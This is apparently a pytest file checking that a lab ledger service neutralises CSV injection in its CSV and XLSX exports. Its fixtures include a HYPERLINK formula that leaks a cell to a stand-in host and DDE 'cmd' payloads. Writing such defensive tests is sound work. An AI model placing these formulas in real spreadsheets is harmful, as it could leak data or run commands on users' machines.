"""Exports and reports open in a spreadsheet without running anything (service/store/sheets.py).

The characters a spreadsheet takes as the start of a formula, and the advice to prefix such a
cell with a single quote, are from the OWASP "CSV Injection" page (from memory): ``=``, ``+``,
``-``, ``@``, tab (0x09) and carriage return (0x0D). openpyxl, an independent library, is the
reader that tells a formula cell (``data_type == "f"``) from a text cell (``"s"``) in the XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from service.cli import main
from service.store import ledger
from service.store.db import session_scope
from service.store.models import Lab, Location, WasteContainer, WasteEntry, WasteEntryElement
from service.store.sheets import neutralise_cell
from tests.conftest import Api, make_app, make_user

# Formula text as it arrives in imported cells, one per start character of the OWASP list.
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", [
    HYPERLINK, DDE, SUM, ARITHMETIC, "=1+1", "+1+1", "-1+1", "@A1",
    "\t=1+1",  # tab (0x09) before the formula
    "\r=1+1",  # carriage return (0x0D) before the formula
])
def test_formula_text_gets_a_leading_quote(text):
    """OWASP "CSV Injection" (from memory): prefix the cell with a single quote."""
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "C-214", "cabinet 1", "Cd", "2026-01", "", "a = b", "x@example.org",  # formula characters not at the start
    -300, 0, 1.5, -0.25,  # numbers are numbers, not text: a negative net mass stays negative
    "-1", "+12", "-0.5",  # text that is a plain number (a basement room "-1") runs nothing
])
def test_other_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def _xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(data: bytes, texts: list[str]) -> list:
    """No cell of the workbook is a formula or starts with "="; each of ``texts`` is there, quoted, as text."""
    cells = _xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if str(c.value).startswith("=")] == []
    stored = {c.value: c.data_type for c in cells}
    for text in texts:
        assert stored.get("'" + text) == "s", (text, stored)
    return cells


def _csv_rows(data: bytes, skip: int = 0) -> list[dict[str, str]]:
    lines = data.decode("utf-8").splitlines()[skip:]
    return list(csv.DictReader(lines))


@pytest.fixture
def sqlite_app(sqlite_url, rules_dir):
    app = make_app(sqlite_url, rules_dir)
    yield app
    app.extensions["dotledger.engine"].dispose()


def _write_text_xlsx(path, rows: list[dict]) -> None:
    """``rows`` as an XLSX file whose every cell is a text cell, as a spreadsheet keeps typed text."""
    book = openpyxl.Workbook()
    sheet = book.active
    columns = list(rows[0])
    for r, values in enumerate([columns] + [[row[c] for c in columns] for row in rows], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            cell.data_type = "s"
    book.save(path)


def _import(app, tmp_path, monkeypatch, rows: list[dict], suffix: str) -> tuple[CliRunner, bytes]:
    """Import ``rows`` as a CSV or XLSX file through the CLI; return the runner and the rejected-rows report."""
    with session_scope(app.extensions["dotledger.sessions"]) as session:
        session.add(Lab(code="C-214", name="Test group", building="C"))
    path, report = tmp_path / f"inventory.{suffix}", tmp_path / "rejected.csv"
    if suffix == "csv":
        pd.DataFrame(rows).to_csv(path, index=False)
    else:
        _write_text_xlsx(path, rows)
    monkeypatch.setenv("DOTLEDGER_DATABASE_URL", app.config["DATABASE_URL"])
    runner = CliRunner()
    done = runner.invoke(main, ["import-inventory", str(path), "--only-valid", "--report", str(report)])
    assert done.exit_code == 0, done.output
    return runner, report.read_bytes()


def _row(label: str, **cells: str) -> dict[str, str]:
    return {"label": label, "substance": "cadmium oxide", "amount": "25 g", "purity_percent": "99.99",
            "lab": "C-214", "building": "C", "room": "C-214", "storage": "cabinet 1", **cells}


def test_rejected_rows_report_quotes_formula_labels(sqlite_app, tmp_path, monkeypatch):
    bad = [HYPERLINK, DDE, SUM, ARITHMETIC]
    _, report = _import(sqlite_app, tmp_path, monkeypatch,
                        [_row("CdO-1")] + [_row(label, substance="unobtainium") for label in bad], "csv")
    rows = _csv_rows(report)
    assert [r["label"] for r in rows] == ["'" + label for label in bad]
    assert [r["line"] for r in rows] == ["3", "4", "5", "6"]  # spreadsheet lines stay plain numbers
    assert all(r["reason"].startswith("substance") or "unknown substance" in r["reason"] for r in rows)
    assert pd.read_csv(io.BytesIO(report))["line"].dtype.kind == "i"


def test_inventory_export_of_imported_locations(sqlite_app, tmp_path, monkeypatch):
    """The store keeps the imported building, room and storage text; the exports quote it."""
    place = {"building": SUM, "room": ARITHMETIC, "storage": HYPERLINK}
    runner, report = _import(sqlite_app, tmp_path, monkeypatch, [_row("CdO-1", **place), _row("CdO-2", **place)],
                             "xlsx")
    assert _csv_rows(report) == []
    texts = list(place.values())
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"inventory.{fmt}"
        done = runner.invoke(main, ["export", "inventory", "--by", "element,location", "--format", fmt,
                                    "--output", str(out)])
        assert done.exit_code == 0, done.output
        if fmt == "csv":
            rows = _csv_rows(out.read_bytes(), skip=1)
            assert {(r["building"], r["room"], r["storage"]) for r in rows} == {tuple("'" + t for t in texts)}
            cadmium = next(r for r in rows if r["element"] == "Cd")
            # 50 g of CdO at 99.99 %, Cd mass fraction 112.41/128.41 (IUPAC atomic weights, from memory)
            assert int(cadmium["mass_ug"]) == pytest.approx(50e6 * 0.9999 * 112.41 / 128.41, rel=1e-4)
        else:
            cells = _assert_no_formula(out.read_bytes(), texts)
            masses = [c for c in cells if c.parent.title == "inventory" and c.column_letter == "E" and c.row > 1]
            assert masses and {c.data_type for c in masses} == {"n"}


def test_waste_export_quotes_container_label_and_keeps_negative_masses(sqlite_app, tmp_path):
    """A container label of formula text through the API's CSV and XLSX; a reversal month stays negative."""
    with session_scope(sqlite_app.extensions["dotledger.sessions"]) as session:
        session.info["actor"] = {"user_id": None, "label": "test:exports"}
        lab = Lab(code="A-1", name="Lab A-1")
        session.add(lab)
        session.flush()
        place = Location(lab_id=lab.id, building="A", room="A-1", storage="SAA", kind="satellite_accumulation_area")
        session.add(place)
        session.flush()
        box = WasteContainer(label=DDE, lab_id=lab.id, location_id=place.id, stream="aqueous_heavy_metals",
                             form="liquid", capacity_text="20 L", capacity_micro=20_000_000)
        session.add(box)
        session.flush()
        first = WasteEntry(container_id=box.id, description="wash", volume_ul=50_000,
                           at=dt.datetime(2026, 1, 10, tzinfo=dt.timezone.utc),
                           elements=[WasteEntryElement(element="Cd", mass_ug=300)])
        session.add(first)
        session.flush()
        session.add(WasteEntry(container_id=box.id, description="correction", volume_ul=-50_000,
                               at=dt.datetime(2026, 2, 3, tzinfo=dt.timezone.utc), reverses_entry_id=first.id,
                               elements=[WasteEntryElement(element="Cd", mass_ug=-300)]))
    api = Api(sqlite_app.test_client(), make_user(sqlite_app, "admin@test.example", "admin"))
    headers = {"Authorization": f"Bearer {api.token}"}
    query = "/api/v1/reports/waste?by=container,month"

    answer = api.client.get(f"{query}&format=csv", headers=headers)
    assert answer.status_code == 200
    rows = _csv_rows(answer.data, skip=1)
    assert [(r["container"], r["month"], r["mass_ug"]) for r in rows] == [
        ("'" + DDE, "2026-01", "300"), ("'" + DDE, "2026-02", "-300")]  # a negative number, not quoted

    answer = api.client.get(f"{query}&format=xlsx", headers=headers)
    assert answer.status_code == 200
    cells = _assert_no_formula(answer.data, [DDE])
    masses = [(c.value, c.data_type) for c in cells if c.column_letter == "C" and c.row > 1 and c.parent.title == "waste"]
    assert masses == [(300, "n"), (-300, "n")]


MIXED = pd.DataFrame({"label": [HYPERLINK, "\t=1+1", "plain"], "mass_ug": [-5, 0, 7]})


def test_csv_writer_directly():
    rows = _csv_rows(ledger.to_csv_bytes(MIXED), skip=1)
    assert [r["label"] for r in rows] == ["'" + HYPERLINK, "'\t=1+1", "plain"]
    assert [r["mass_ug"] for r in rows] == ["-5", "0", "7"]


def test_xlsx_writer_directly():
    cells = _assert_no_formula(ledger.to_xlsx_bytes(MIXED), [HYPERLINK, "\t=1+1"])
    assert [(c.value, c.data_type) for c in cells if c.column_letter == "B" and c.parent.title == "report"][1:] == [
        (-5, "n"), (0, "n"), (7, "n")]
